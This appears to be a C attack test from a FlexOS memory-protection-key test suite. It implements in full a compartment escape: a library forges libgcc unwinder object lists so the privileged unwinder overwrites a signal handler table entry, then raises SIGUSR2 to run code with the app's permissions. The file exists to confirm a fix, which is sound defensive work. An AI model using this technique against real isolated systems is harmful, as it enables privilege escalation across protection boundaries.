/*
 * attack --unwind-write (limit 12; found by an attack review): the lists
 * of frames registered with the report's unwinder (libgcc's
 * unseen_objects and seen_objects) made the unwinder, running with the
 * report's PKRU (gate key writable), write a pointer of lib1's choosing
 * (a forged object's address) at an address of lib1's choosing:
 * _Unwind_Find_FDE inserts each unseen object into the seen list,
 * `ob->next = *p; *p = ob', p walked from lib1's forged list. Target: the
 * handler table (gate key), SIGUSR2's entry shifted by one byte, so that
 * the entry reads fn = F (a 256-aligned code address) and compartment = 0
 * (app). lib1 then points the kernel's SIGUSR2 at the delivery stub and
 * raises it: the stub called F in app, with app's PKRU (status 1).
 * lib1 finds unseen_objects by registering an object and looking for its
 * address in .bss. The unwinder's state is read-only from start-up on
 * now (flexos-link's .flexos.unwind): that registration is a write fault
 * (139), and the report never walks lib1's lists.
 */
#define _GNU_SOURCE 1
#include <link.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <flexos/flexos.h>

#include "../../backends/mpk/mpk.h"
#include "attacklib.h"
#include "evil.h"
#include "unwindwrite.h"

struct uw_object {
	void *pc_begin, *tbase, *dbase;
	void *u;
	size_t s;
	struct uw_object *next;
};
struct uw_vec {
	const void *orig;
	size_t count;
	const void *array[1];
};
extern void __register_frame_info_bases(const void *, struct uw_object *, void *, void *);
extern char __bss_start[], _end[];

static struct {
	uintptr_t secret;
	uint32_t app_pkru;
	volatile int held;
	struct uw_object s1, reg;
	struct uw_vec vec;
	unsigned eh[4];
} uw FLEXOS_SHARED;

__attribute__((aligned(256), noinline)) static void uw_evil(int sig, siginfo_t *si, void *uc)
{
	(void)sig;
	(void)si;
	(void)uc;
	evil_ran("unwind-write", uw.secret, uw.app_pkru);
}

static int uw_hold_cb(struct dl_phdr_info *i, size_t n, void *d)
{
	(void)i;
	(void)n;
	(void)d;
	uw.held = 1;
	for (;;)
		sleep(1);
	return 0;
}

static void *uw_holder(void *a)
{
	(void)a;
	dl_iterate_phdr(uw_hold_cb, NULL);
	return NULL;
}

__asm__(".text\n.type uw_read,@function\nuw_read:\n.cfi_startproc\nmovq (%rdi), "
	"%rax\nret\n.cfi_endproc\n");

static void *uw_faulter(void *a)
{
	(void)a;
	/* A protection-key fault (app's data), its return address 0x1000. */
	__asm__ volatile("movq %0, %%rdi\n\t"
			 "pushq $0x1000\n\t"
			 "jmp uw_read"
			 :
			 : "r"(uw.secret)
			 : "rdi", "memory");
	return NULL;
}

/* Run by lib1 (lib1_call). */
static long uw_lib1(long x)
{
	(void)x;
	struct mpk_sig_handler *tab;
	memcpy(&tab, (const char *)flexos__mpk_pkru + MPK_PKRU_SIGTAB, sizeof(tab));
	volatile uint64_t *entry = (volatile uint64_t *)&tab[SIGUSR2];
	char *target = (char *)&tab[SIGUSR2] + 1;
	uintptr_t F = (uintptr_t)uw_evil;
	uintptr_t obaddr = F >> 8;
	uint64_t cur;

	memcpy(&cur, target, 8);
	printf("unwind-write: lib1 (PKRU %#x): handler table at %p, SIGUSR2's entry %#lx; "
	       "F=%#lx, forged object at %#lx\n",
	       flexos__mpk_rdpkru(), (void *)tab, (unsigned long)*entry, (unsigned long)F,
	       (unsigned long)obaddr);
	if (cur || (F & 255))
		return 2;
	void *m = mmap((void *)(obaddr & ~4095ul), 8192, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (m == MAP_FAILED) {
		perror("unwind-write: mmap");
		return 2;
	}
	struct uw_object *ob = (struct uw_object *)obaddr;

	/* Registered the legal way: unseen_objects = &uw.reg; found in .bss by its value. */
	uw.eh[0] = 4;
	__register_frame_info_bases(uw.eh, &uw.reg, 0, 0);
	uintptr_t *unseen = NULL;
	for (uintptr_t *p = (uintptr_t *)__bss_start; p < (uintptr_t *)_end; p++)
		if (*p == (uintptr_t)&uw.reg) {
			unseen = p;
			break;
		}
	if (!unseen) {
		printf("unwind-write: unseen_objects not found\n");
		return 2;
	}
	uintptr_t *seen = unseen - 1;
	printf("unwind-write: unseen_objects at %p, seen_objects at %p\n", (void *)unseen,
	       (void *)seen);
	/* An empty sorted vector: a search finds nothing. */
	uw.vec.count = 0;
	/* seen: s1 (pc_begin 0: searched, nothing, the walk stops), then target - 40. */
	uw.s1.pc_begin = 0;
	uw.s1.u = &uw.vec;
	uw.s1.s = 1; /* sorted, absptr */
	uw.s1.next = (struct uw_object *)(target - 40);
	ob->pc_begin = 0; /* never breaks: inserted at the first null next */
	ob->u = &uw.vec;
	ob->s = 1;
	ob->next = NULL;
	*seen = (uintptr_t)&uw.s1;
	*unseen = (uintptr_t)ob;

	/* The kernel's SIGUSR2 to the delivery stub, the table's entry left empty. */
	struct sigaction sa;
	memset(&sa, 0, sizeof(sa));
	sa.sa_sigaction = flexos__mpk_sig_deliver;
	sa.sa_flags = SA_SIGINFO | SA_ONSTACK;
	sigfillset(&sa.sa_mask);
	sigdelset(&sa.sa_mask, SIGSEGV);
	if (flexos__mpk_sigaction(SIGUSR2, &sa, NULL))
		printf("unwind-write: sigaction failed\n");

	pthread_t t;
	pthread_create(&t, NULL, uw_holder, NULL);
	while (!uw.held)
		sched_yield();
	printf("unwind-write: lib1 holds the loader's lock; a thread of lib1 faults\n");
	fflush(stdout);
	pthread_create(&t, NULL, uw_faulter, NULL);
	for (long i = 0; i < 100000000; i++) {
		memcpy(&cur, target, 8);
		if (cur)
			break;
		sched_yield();
	}
	printf("unwind-write: the report wrote %#lx at %p; SIGUSR2's entry now %#lx (fn %#lx, "
	       "compartment %lu); lib1 raises SIGUSR2\n",
	       (unsigned long)cur, (void *)target, (unsigned long)*entry,
	       (unsigned long)(*entry & ((1ul << 56) - 1)), (unsigned long)(*entry >> 56));
	fflush(stdout);
	raise(SIGUSR2);
	printf("unwind-write: back in lib1 after the signal\n");
	return 3;
}

int unwind_write(uintptr_t secret)
{
	long r = 0;
	uw.secret = secret;
	uw.app_pkru = flexos__mpk_rdpkru();
	flexos_gate_r(lib1, r, lib1_call, uw_lib1, 0);
	printf("unwind-write: lib1 returned %ld\n", r);
	return (int)r;
}
